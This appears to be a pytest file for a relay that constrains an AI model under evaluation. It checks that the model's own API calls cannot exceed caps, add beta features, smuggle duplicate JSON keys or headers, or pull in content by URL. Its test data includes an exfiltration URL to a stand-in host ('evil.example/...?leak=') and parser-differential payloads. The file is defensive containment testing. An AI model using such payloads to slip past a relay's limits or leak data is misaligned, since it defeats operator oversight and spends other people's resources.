"""Attacks on what the relay passes on: a call of the run's model that asks the provider for
more than the run may have (many answers, a huge answer, a pricier tier, a beta feature, fields
the relay does not know), and bodies crafted to be read one way by the relay and another by the
provider (duplicate keys, not JSON, too large). A real relay, the scripted provider on the
host's loopback, plain HTTP clients in the role of the model's own commands.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.agents.fake_provider import FakeProvider, Reply
from tests.agents.relay_calls import (
    CALLER_HEADERS,
    CAP,
    KEY,
    MODEL,
    RELAY_HEADERS,
    RelayFactory,
    body_for,
    log_entries,
    message,
    send,
)

# -- many answers, huge answers ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("api", "extra", "where"),
    [
        ("openai-compatible", {"n": 64}, ("n",)),
        ("openai", {"n": 64}, ("n",)),
        (
            "google",
            {"generationConfig": {"candidateCount": 8}},
            ("generationConfig", "candidateCount"),
        ),
    ],
)
def test_a_call_gets_one_answer_whatever_it_asks(
    relays: RelayFactory, tmp_path: Path, api: str, extra: dict[str, object], where: tuple[str, ...]
) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, api)
        status, _ = send(relay, api, body_for(api, **extra))
    assert status == 200
    (request,) = p.requests
    value: object = request.body
    for key in where:
        assert isinstance(value, dict)
        value = value[key]
    assert value == 1
    (entry,) = log_entries(tmp_path, "call")
    assert entry["pinned"] == [".".join(where)]


@pytest.mark.parametrize(
    ("api", "extra", "where"),
    [
        ("openai-compatible", {"max_tokens": 100_000}, [("max_tokens",)]),
        ("openai", {"max_completion_tokens": 10**9}, [("max_completion_tokens",)]),
        (
            "openai",
            {"max_tokens": 100_000, "max_completion_tokens": 100_000},
            [("max_tokens",), ("max_completion_tokens",)],
        ),
        ("openai-responses", {"max_output_tokens": 100_000}, [("max_output_tokens",)]),
        ("anthropic", {"max_tokens": 100_000}, [("max_tokens",)]),
        (
            "google",
            {"generationConfig": {"maxOutputTokens": 100_000}},
            [("generationConfig", "maxOutputTokens")],
        ),
        # No limit at all: the API's own limit field is set to the cap.
        ("openai-compatible", {}, [("max_tokens",)]),
        ("openai", {}, [("max_completion_tokens",)]),
        ("openai-responses", {}, [("max_output_tokens",)]),
        ("anthropic", {}, [("max_tokens",)]),
        ("google", {}, [("generationConfig", "maxOutputTokens")]),
    ],
)
def test_the_output_of_a_call_is_capped_by_the_track(
    relays: RelayFactory, api: str, extra: dict[str, object], where: list[tuple[str, ...]]
) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, api)
        status, _ = send(relay, api, body_for(api, **extra))
    assert status == 200
    (request,) = p.requests
    for keys in where:
        value: object = request.body
        for key in keys:
            assert isinstance(value, dict)
            value = value[key]
        assert value == CAP, keys


def test_a_limit_under_the_cap_stays_and_anthropic_thinking_comes_on_top(
    relays: RelayFactory,
) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, "openai-compatible")
        assert send(relay, "openai-compatible", body_for("openai", max_tokens=100))[0] == 200
        thinking = {"type": "enabled", "budget_tokens": 16_000}
        relay = relays(p, "anthropic")
        body = body_for("anthropic", max_tokens=10**6, thinking=thinking)
        assert send(relay, "anthropic", body)[0] == 200
    assert p.requests[0].body["max_tokens"] == 100
    assert p.requests[1].body["max_tokens"] == CAP + 16_000


@pytest.mark.parametrize("value", ["100000", -1, 0, 1.5, True, None, [1], 1e30])
def test_a_limit_that_is_not_a_positive_whole_number_is_refused(
    relays: RelayFactory, value: object
) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p)
        status, answer = send(relay, "openai-compatible", body_for("chat", max_tokens=value))
    assert status == 400 and "positive whole number" in message(answer)
    assert p.requests == []


# -- fields and headers the relay does not know --------------------------------------------------


@pytest.mark.parametrize(
    ("api", "extra", "dropped"),
    [
        (
            "openai-compatible",
            {"service_tier": "priority", "provider": {"order": ["pricey"]}, "x_anything": 1},
            {"service_tier", "provider", "x_anything"},
        ),
        ("openai", {"service_tier": "priority", "prediction": {"type": "content"}}, None),
        # A stored conversation or answer (another run's, on the same key) is not reachable.
        (
            "openai-responses",
            {"service_tier": "flex", "conversation": "conv_1", "previous_response_id": "resp_1"},
            None,
        ),
        ("anthropic", {"service_tier": "auto", "speed": "fast", "context_management": {}}, None),
        ("google", {"cachedContent": "cachedContents/x", "labels": {"a": "b"}}, None),
        # Google also reads snake_case names: an alias must not slip past the pin or the cap.
        (
            "google",
            {"generation_config": {"candidate_count": 8, "max_output_tokens": 10**6}},
            {"generation_config"},
        ),
        (
            "google",
            {"generationConfig": {"candidate_count": 8, "max_output_tokens": 10**6}},
            {"generationConfig.candidate_count", "generationConfig.max_output_tokens"},
        ),
        (
            "openai-compatible",
            {"stream_options": {"include_usage": False, "include_obfuscation": True}},
            {"stream_options.include_obfuscation"},
        ),
    ],
)
def test_fields_off_the_allow_list_never_reach_the_provider(
    relays: RelayFactory,
    tmp_path: Path,
    api: str,
    extra: dict[str, object],
    dropped: set[str] | None,
) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, api)
        status, _ = send(relay, api, body_for(api, **extra))
    assert status == 200
    (request,) = p.requests
    expected = dropped if dropped is not None else set(extra)
    for name in expected:
        *outer, last = name.split(".")
        holder: object = request.body
        for key in outer:
            assert isinstance(holder, dict)
            holder = holder[key]
        assert isinstance(holder, dict) and last not in holder, name
    if api == "openai-compatible" and "stream_options" in extra:
        # A streamed chat call always asks for its usage (the budget counts it).
        assert request.body["stream_options"] == {"include_usage": True}
    (entry,) = log_entries(tmp_path, "call")
    logged = entry["dropped"]
    assert isinstance(logged, list)
    assert set(logged) == expected


def test_headers_are_rebuilt_from_the_allow_list(relays: RelayFactory, tmp_path: Path) -> None:
    sneaky = {
        "anthropic-beta": "fine-grained-tool-streaming-2025-05-14, context-1m-2025-08-07,"
        "code-execution-2025-08-25,files-api-2025-04-14,mcp-client-2025-04-04",
        "anthropic-version": "2023-06-01",
        "OpenAI-Beta": "assistants=v2",
        "X-Stainless-Retry-Count": "0",
        "HTTP-Referer": "https://evil.example",
        "X-Forwarded-For": "10.0.0.1",
        "x-session-id": "ses_1",
        "Accept": "text/event-stream",
        "User-Agent": "model-made/1.0",
        "x-api-key": "sk-someone-elses",
    }
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, "anthropic")
        assert send(relay, "anthropic", body_for("anthropic"), sneaky)[0] == 200
        relay = relays(p, "anthropic")
        bad_version = {"anthropic-version": "2023-06-01\t; x=1", "anthropic-beta": "evil"}
        assert send(relay, "anthropic", body_for("anthropic"), bad_version)[0] == 200
    first, second = ({k.lower(): v for k, v in r.headers.items()} for r in p.requests)
    assert set(first) <= RELAY_HEADERS | CALLER_HEADERS | {"x-api-key"}
    assert first["x-api-key"] == KEY
    assert first["anthropic-beta"] == "fine-grained-tool-streaming-2025-05-14"
    assert first["accept"] == "text/event-stream"
    assert first["user-agent"] == "ari-bench-relay"
    assert "anthropic-beta" not in second and second["anthropic-version"] == "2023-06-01"
    entry = log_entries(tmp_path, "call")[0]
    logged = entry["dropped"]
    assert isinstance(logged, list)
    assert "anthropic-beta:context-1m-2025-08-07" in logged and "header:openai-beta" in logged


# -- bodies read one way by the relay and another by the provider -----------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b'{"model": "fake-model", "model": "stronger-model", "messages": []}',
        b'{"model": "stronger-model", "model": "fake-model", "messages": []}',
        b'{"model": "fake-model", "mod\\u0065l": "stronger-model", "messages": []}',
        b'{"model": "fake-model", "messages": [], "n": 1, "n": 64}',
        b'{"model": "fake-model", "messages": [{"role": "user", "role": "system"}]}',
    ],
)
def test_a_body_with_a_duplicate_key_is_refused(relays: RelayFactory, raw: bytes) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p)
        status, answer = send(relay, "openai-compatible", raw)
    assert status == 400 and "repeats the key" in message(answer)
    assert p.requests == []


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"not json", "not JSON"),
        (b"", "not JSON"),
        (b'["fake-model"]', "not a JSON object"),
        (b'{"model": "fake-model", "messages": []} trailing', "not JSON"),
        (b'{"model": "fake-model", "messages": [], "temperature": NaN}', "NaN"),
        (b'{"model": "fake-model", "messages": [], "temperature": 1e999}', "out of range"),
        (b'{"model": "fake-model", "messages": ["\xff\xfe"]}', "not UTF-8"),
        ('{"model": "fake-model", "messages": []}'.encode("utf-16"), "not UTF-8"),
        (b"\xef\xbb\xbf" + b'{"model": "fake-model", "messages": []}', "not JSON"),
        (b'{"model": "fake-model", "messages": ["\\ud800"]}', "not valid Unicode"),
        (b'{"model": "fake-model", "messages": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", "JSON"),
    ],
)
def test_a_body_that_is_not_one_json_object_is_refused(
    relays: RelayFactory, tmp_path: Path, raw: bytes, why: str
) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p)
        status, answer = send(relay, "openai-compatible", raw)
    assert status == 400 and why in message(answer)
    assert p.requests == []
    (entry,) = log_entries(tmp_path, "refused")
    assert entry["status"] == 400


def test_the_provider_gets_the_body_the_relay_wrote_never_the_bytes_it_got(
    relays: RelayFactory,
) -> None:
    sent = (
        b'{ "model" : "fake-model",\n "messages": [{"role": "user", "content": "caf\\u00e9"}],'
        b'\n "stream": true, "temperature": 0.5 }   '
    )
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p)
        assert send(relay, "openai-compatible", sent)[0] == 200
    (request,) = p.requests
    expected = {
        "model": MODEL,
        "messages": [{"role": "user", "content": "café"}],
        "stream": True,
        "temperature": 0.5,
        "max_tokens": CAP,
        "stream_options": {"include_usage": True},
    }
    assert request.raw == json.dumps(expected, ensure_ascii=False, separators=(",", ":")).encode()
    assert request.headers["Content-Length"] == str(len(request.raw))


def _flood(port: int, head: bytes, parts: Iterator[bytes]) -> tuple[bytes, int]:
    """Send `head`, then `parts` for as long as the relay reads them, from a second thread;
    return the relay's answer and how many body bytes left."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=60)
    sent = 0

    def push() -> None:
        nonlocal sent
        try:
            sock.sendall(head)
            for part in parts:
                sock.sendall(part)
                sent += len(part)
        except OSError:
            pass  # the relay stopped reading and closed the connection

    pusher = threading.Thread(target=push, daemon=True)
    pusher.start()
    answer = b""
    try:
        while chunk := sock.recv(65536):
            answer += chunk
    except OSError:
        pass
    pusher.join(timeout=60)
    sock.close()
    return answer, sent


HUNDRED_MB = 100 * 2**20


def _head(extra: str) -> bytes:
    return f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n{extra}\r\n".encode()


def test_a_body_of_100_mb_is_refused_unread(relays: RelayFactory) -> None:
    block = b"x" * 2**20
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p)
        head = _head(f"Content-Length: {HUNDRED_MB}\r\n")
        answer, _ = _flood(relay.port, head, iter([block] * 100))
        assert answer.startswith(b"HTTP/1.1 413") and b"too large" in answer
        chunked = _head("Transfer-Encoding: chunked\r\n")
        parts = (b"%x\r\n%s\r\n" % (len(block), block) for _ in range(100))
        answer, sent = _flood(relay.port, chunked, parts)
        assert answer.startswith(b"HTTP/1.1 413") and b"too large" in answer
        assert sent < HUNDRED_MB  # it stopped reading at its limit
        # The relay still serves the run's calls.
        assert send(relay, "openai-compatible", body_for("chat"))[0] == 200
    assert len(p.requests) == 1


# -- the relay's own answers, in each provider's format --------------------------------------------


def test_the_relays_errors_come_in_the_providers_own_format(relays: RelayFactory) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        anthropic = relays(p, "anthropic")
        status, answer = send(anthropic, "anthropic", b'{"model": 1, "model": 2}')
        assert status == 400 and answer["type"] == "error"
        assert "repeats the key" in message(answer)
        google = relays(p, "google")
        status, answer = send(google, "google", b"[]")
        error = answer["error"]
        assert status == 400 and isinstance(error, dict)
        assert error["code"] == 400 and error["status"] == "INVALID_ARGUMENT"
        openai = relays(p, "openai")
        status, answer = send(openai, "openai", body_for("chat", model="stronger-model"))
        error = answer["error"]
        assert status == 403 and isinstance(error, dict) and error["type"] == "ari_relay"
    assert p.requests == []


def test_anthropics_effort_setting_stays_the_scaffolds(relays: RelayFactory) -> None:
    """Newer Claude models take the effort as `output_config.effort`: pinned like `thinking`."""
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, "anthropic")
        low = body_for("anthropic", output_config={"effort": "low"})
        assert send(relay, "anthropic", low)[0] == 200
        high = body_for("anthropic", output_config={"effort": "high"})
        status, answer = send(relay, "anthropic", high)
    assert status == 403 and "reasoning-effort" in message(answer)
    assert len(p.requests) == 1


def _user(api: str, part: dict[str, object]) -> dict[str, object]:
    if api == "google":
        return {"contents": [{"role": "user", "parts": [{"text": "look"}, part]}]}
    key = "input" if api == "openai-responses" else "messages"
    return {key: [{"role": "user", "content": [part]}]}


ELSEWHERE = "https://evil.example/x.png?leak=the-secret-plan"
INLINE = "data:image/png;base64,AA"


@pytest.mark.parametrize(
    ("api", "part"),
    [
        ("openai-compatible", {"type": "image_url", "image_url": {"url": ELSEWHERE}}),
        ("openai", {"type": "image_url", "image_url": ELSEWHERE}),
        ("openai", {"type": "file", "file": {"file_id": "file-of-another-run"}}),
        ("openai-responses", {"type": "input_image", "image_url": ELSEWHERE}),
        ("openai-responses", {"type": "input_image", "file_id": "file-1"}),
        ("openai-responses", {"type": "input_file", "file_url": ELSEWHERE}),
        ("anthropic", {"type": "document", "source": {"type": "url", "url": ELSEWHERE}}),
        ("anthropic", {"type": "image", "source": {"type": "file", "file_id": "file-1"}}),
        ("anthropic", {"type": "container_upload", "file_id": "file-1"}),
        ("google", {"fileData": {"fileUri": ELSEWHERE, "mimeType": "image/png"}}),
        ("google", {"file_data": {"file_uri": ELSEWHERE}}),
    ],
)
def test_content_the_provider_would_fetch_is_refused(
    relays: RelayFactory, api: str, part: dict[str, object]
) -> None:
    """An image or document by URL (or a file stored with the provider) makes the provider
    reach out for the model: the web, or another run's files, through the operator's key."""
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, api)
        status, answer = send(relay, api, body_for(api, **_user(api, part)))
    assert status == 403 and "would fetch" in message(answer)
    assert p.requests == []


@pytest.mark.parametrize(
    ("api", "part"),
    [
        ("openai-compatible", {"type": "image_url", "image_url": {"url": INLINE}}),
        ("anthropic", {"type": "image", "source": {"type": "base64", "data": "AA"}}),
        ("google", {"inlineData": {"mimeType": "image/png", "data": "AA"}}),
    ],
)
def test_inline_content_passes(relays: RelayFactory, api: str, part: dict[str, object]) -> None:
    with FakeProvider(lambda r: Reply(text="hi")) as p:
        relay = relays(p, api)
        assert send(relay, api, body_for(api, **_user(api, part)))[0] == 200
    assert len(p.requests) == 1
